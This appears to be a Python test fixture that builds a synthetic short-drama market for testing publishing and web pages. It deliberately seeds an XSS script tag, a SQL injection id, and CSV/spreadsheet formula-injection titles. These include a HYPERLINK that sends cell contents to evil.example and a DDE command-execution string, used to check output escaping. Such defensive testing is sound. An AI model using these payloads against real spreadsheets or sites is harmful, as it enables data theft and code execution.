"""A small, deterministic market for publishing tests, built through the real signals and index engines.

Why not only the demo workspace: these tests need hostile text in exact places (a title named
``<script>alert(1)</script>``, a title id ``'; DROP TABLE titles; --``, comments with both) and must not
depend on how the demo generator evolves. Tables are written with the engine's keyed upsert, then the
real ``compute_signals`` and ``run_index`` run on them, so the pages read genuine stored runs.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import numpy as np
import pyarrow as pa

from dramascope.schema import TABLES
from dramascope.workspace import Workspace
from tests.specs import default_spec_without_embeddings

XSS = "<script>alert(1)</script>"
SQLI = "'; DROP TABLE titles; --"
XSS_TITLE_ID = "T-XSS"
# Titles a spreadsheet would run as formulas (CSV injection): exports must neutralise them.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
FORMULA_EN = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_TITLE_ID = "T002"
MARKUP = "重生[/]之路[/]"  # Rich markup in a title: the CLI prints it as text
MARKUP_TITLE_ID = "T003"
SQLI_TITLE_ID = SQLI  # an id that is itself an injection attempt
THEMES = ["重生", "逆袭", "霸总", "甜宠", "复仇", "萌宝", "悬疑", "古装", "年代", "非遗", "文旅", "普法",
          "乡村振兴", "werewolf", "billionaire", "mafia"]
PLATFORMS_DOMESTIC = ["douyin", "kuaishou"]
PLATFORMS_OVERSEAS = ["reelshort", "dramabox"]
START = dt.date(2026, 1, 5)


def _table(name: str, rows: list[dict]) -> pa.Table:
    t = TABLES[name]
    return pa.table({c.name: pa.array([r.get(c.name) for r in rows], c.arrow_type) for c in t.columns},
                    schema=t.arrow_schema)


def build_market(path: Path, n_titles: int = 60, seed: int = 11, *, run_index: bool = True) -> Workspace:
    rng = np.random.default_rng(seed)
    ws = Workspace.open(path)
    titles, episodes, metrics, comments, ratings = [], [], [], [], []
    for i in range(n_titles):
        tid = f"T{i:03d}"
        name, name_en = f"第{i}部·{THEMES[i % len(THEMES)]}之路", f"Road of {THEMES[i % len(THEMES)]} {i}"
        if i == 0:
            tid, name, name_en = XSS_TITLE_ID, XSS, XSS
        elif i == 1:
            tid, name, name_en = SQLI_TITLE_ID, SQLI, SQLI
        elif i == 2:
            name, name_en = FORMULA, FORMULA_EN
        elif i == 3:
            name, name_en = MARKUP, MARKUP
        overseas = i % 4 == 3
        release = START + dt.timedelta(days=int(i * 2))
        n_ep = int(rng.integers(8, 16))
        themes = list(dict.fromkeys([THEMES[i % len(THEMES)], THEMES[(i * 7 + 3) % len(THEMES)]]))
        titles.append({
            "title_id": tid, "name": name, "name_en": name_en, "origin_country": "CN", "language": "zh",
            "release_date": release, "episode_count": n_ep, "avg_episode_seconds": float(rng.integers(60, 150)),
            "orientation": "vertical", "themes": themes,
            "synopsis": f"{name}：一个关于{'、'.join(themes)}的故事。{XSS if i == 0 else ''}",
            "producer": f"厂牌{i % 5}", "monetization": "paid_unlock", "paywall_episode": 5,
            "tags": themes[:1], "market": "overseas" if overseas else "domestic",
        })
        for e in range(1, n_ep + 1):
            episodes.append({"title_id": tid, "episode_no": e, "duration_seconds": 90.0, "is_paywalled": e >= 5,
                             "release_date": release})
        quality = rng.lognormal(0, 0.6)
        for p in (PLATFORMS_OVERSEAS if overseas else PLATFORMS_DOMESTIC):
            for d in range(30):
                plays = int(quality * 20000 * np.exp(-d / 12) * rng.uniform(0.7, 1.3)) + 10
                metrics.append({
                    "title_id": tid, "platform": p, "date": release + dt.timedelta(days=d), "plays": plays,
                    "likes": int(plays * rng.uniform(0.02, 0.06)), "comments": int(plays * 0.004),
                    "shares": int(plays * rng.uniform(0.002, 0.01)), "favorites": int(plays * 0.01),
                    "completion_rate": float(rng.uniform(0.2, 0.6)), "followers_gained": int(plays * 0.001),
                    "revenue_cny": float(plays * 0.02), "ad_spend_cny": float(plays * 0.01),
                    "market": "overseas" if overseas else "domestic",
                })
        texts = ["太好看了，上头！", "哈哈哈哈笑死", "男主好帅", "虐哭了😭", "催更催更", "这剧情太假了，弃了",
                 "so good omg", "I hate the villain"]
        for c in range(12):
            text = texts[c % len(texts)]
            if i == 0 and c == 0:
                text = f"{XSS} 好看"
            if i == 1 and c == 0:
                text = f"{SQLI} 好看"
            comments.append({
                "comment_id": f"{tid}-c{c}", "title_id": tid, "platform": "douyin", "episode_no": 1 + c % n_ep,
                "kind": "comment", "posted_at": dt.datetime.combine(release, dt.time(12)) + dt.timedelta(hours=c),
                "text": text, "likes": int(rng.integers(0, 500)), "user_hash": f"u{c}", "lang": "zh",
            })
        for c in range(20):
            comments.append({
                "comment_id": f"{tid}-d{c}", "title_id": tid, "platform": "bilibili", "episode_no": 1 + c % n_ep,
                "kind": "danmaku", "posted_at": dt.datetime.combine(release, dt.time(20)),
                "video_second": float(rng.integers(0, 90)), "text": texts[c % len(texts)], "likes": 0,
                "user_hash": f"d{c}", "lang": "zh",
            })
        ratings.append({"title_id": tid, "source": "douban", "rating": float(np.clip(5 + quality * 2, 0, 10)),
                        "votes": int(rng.integers(20, 5000))})
    eng = ws.engine
    for name, rows, key in (("titles", titles, ("title_id",)), ("episodes", episodes, ("title_id", "episode_no")),
                            ("metrics", metrics, ("title_id", "platform", "date")),
                            ("comments", comments, ("comment_id",)), ("ratings", ratings, ("title_id", "source"))):
        eng.upsert(name, _table(name, rows), key)
    # a quarantined row, as ingest would record it, so the data-quality page has something to show
    eng.append("quarantine", pa.table({
        "ingest_id": ["i1"], "table_name": ["metrics"], "file": ["metrics.csv"], "line": [7], "field": ["plays"],
        "value": [XSS], "reason": ["not a number"], "raw": [XSS], "quarantined_at": [dt.datetime(2026, 2, 1)],
    }, schema=ws.table("quarantine").schema().to_pyarrow()))
    if run_index:
        from dramascope.index import run_index as run
        from dramascope.resonance import analyze_workspace
        from dramascope.signals import compute_signals

        from dramascope.errors import UserInputError

        try:  # the shipped emotion model may not exist yet in a young checkout
            analyze_workspace(ws)
        except UserInputError:
            pass
        compute_signals(ws, granularities=("life", "month"), semantic=False)
        run(ws, market_spec(ws), period="life")
    return ws


def market_spec(ws) -> Path:
    """The index spec of these markets: the default without the indicators that need embeddings."""
    return default_spec_without_embeddings(Path(ws.path))


_SHARED: dict[str, Path] = {}


def shared_market_path(tmp_root: Path) -> Path:
    """Build the market once per test process (tests/publish and tests/web share it) and return its folder.

    Tests open it read-only in spirit: a test that writes (index run through the API) builds its own.
    """
    if "path" not in _SHARED:
        path = tmp_root / "publish-market"
        build_market(path).close()
        _SHARED["path"] = path
    return _SHARED["path"]


def writable_copy_of_shared_market(tmp_root: Path, dest: Path) -> Workspace:
    """A writer workspace on a private copy of the shared market, for tests that write (new runs, new
    titles): copying the folder costs milliseconds where building another market costs seconds."""
    import shutil

    shutil.copytree(shared_market_path(tmp_root), dest)
    return Workspace.open(dest)
